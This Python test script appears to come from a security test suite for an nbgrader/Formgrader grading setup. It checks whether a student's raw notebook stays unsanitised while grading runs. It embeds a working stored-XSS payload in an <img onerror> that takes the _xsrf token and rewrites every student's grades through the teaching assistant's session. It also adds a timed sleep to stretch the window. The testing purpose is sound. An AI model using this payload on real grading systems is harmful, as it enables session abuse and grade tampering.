"""a02: the raw hand-in in autograded/ WHILE a submission is graded (no time-out, no failure).
nbgrader's first pass writes autograded/<student>/<a>/<a>.ipynb (the hand-in as written) and its gradebook rows, then
executes that notebook; InertForTheBrowser runs only at the very end. Round 35's fix removes it when a grading does not
finish; a grading that finishes normally keeps it raw for as long as it runs, and the student chooses how long (cells
under the 120-s cell limit, up to the 900-s submission limit). mallory: a written answer with <img onerror> that uses
the TA's session on every submission through Formgrader's REST API (round 35's a08), and a quiz answer cell that sleeps
100 s and then answers correctly. The TA opens Formgrader while the class is being graded (e.g. grading written answers
of the students already done) and reaches mallory's page. Controls aaron (before) and zoe (after)."""
import sqlite3, sys, time, threading
sys.path.insert(0, __import__("os").path.dirname(__import__("os").path.abspath(__file__)))
from harness import *

XSS = '<img src=x onerror="(async()=>{const x=document.cookie.match(/_xsrf=([^;]+)/);const h={\'X-XSRFToken\':x?decodeURIComponent(x[1]):\'\',\'Content-Type\':\'application/json\'};const subs=await (await fetch(\'/formgrader/api/submitted_notebooks/ps1_memory/ps1_memory\')).json();let n=0;for(const s of subs){const gs=await (await fetch(\'/formgrader/api/grades?submission_id=\'+s.id)).json();for(const g of gs){g.manual_score=(s.student===\'mallory\')?g.max_score:0;const r=await fetch(\'/formgrader/api/grade/\'+g.id,{method:\'PUT\',headers:h,body:JSON.stringify(g)});n+=r.ok?1:0;}}window.PWNED=n})()">'
m = honest()
for c in m.cells:
    g = c.metadata.get("nbgrader", {}).get("grade_id")
    if g == "written_ddp_fit":
        c.source = "My answer. " + XSS
    if g == "quiz_q1":
        c.source = "import time\ntime.sleep(100)\n" + c.source
d = course("a02")
handin(d, "aaron", honest())
handin(d, "mallory", m)
handin(d, "zoe", honest())
res = {}
t = threading.Thread(target=lambda: res.setdefault("r", grade(d)))
t0 = time.time(); t.start()
p = f"{d}/autograded/mallory/{A}/{A}.ipynb"
while t.is_alive() and not os.path.exists(p):
    time.sleep(0.5)
time.sleep(3)
print(f"t={time.time()-t0:.1f}s mallory's autograded notebook exists:", os.path.exists(p),
      "marker:", os.path.exists(os.path.dirname(p) + "/.graded"))
s = open(p).read()
print("raw <img onerror> in it while grading runs:", "onerror=" in s and "<img" in s)
db = sqlite3.connect(f"{d}/gradebook.db")
print("gradebook rows for mallory:", db.execute("""select sn.id from submitted_notebook sn join submitted_assignment sa
      on sn.assignment_id=sa.id where sa.student_id='mallory'""").fetchall())
from browser_fg import open_formgrader
def ta(page, url):
    time.sleep(6)
    return page.evaluate("() => ({grades_written_as_the_TA: window.PWNED || 0})")
print(f"t={time.time()-t0:.1f}s TA opens mallory's page in Formgrader:", open_formgrader(d, "mallory", ta, shot="tests/attacks/round36/user/a02-formgrader.png"))
t.join()
print(f"t={time.time()-t0:.1f}s grading ended")
s = open(p).read()
print("after the end: raw <img onerror> still in it:", "onerror=" in s and "<img" in s, "marker:", os.path.exists(os.path.dirname(p) + "/.graded"))
db = sqlite3.connect(f"{d}/gradebook.db")
rows = db.execute("""select sa.student_id, sum(coalesce(g.manual_score, g.auto_score, 0)), sum(gc.max_score) from grade g
  join grade_cells gc on g.cell_id=gc.id join submitted_notebook sn on g.notebook_id=sn.id
  join submitted_assignment sa on sn.assignment_id=sa.id group by sa.student_id""").fetchall()
for r in rows: print("FINAL (manual over auto)", r)
scores(d)
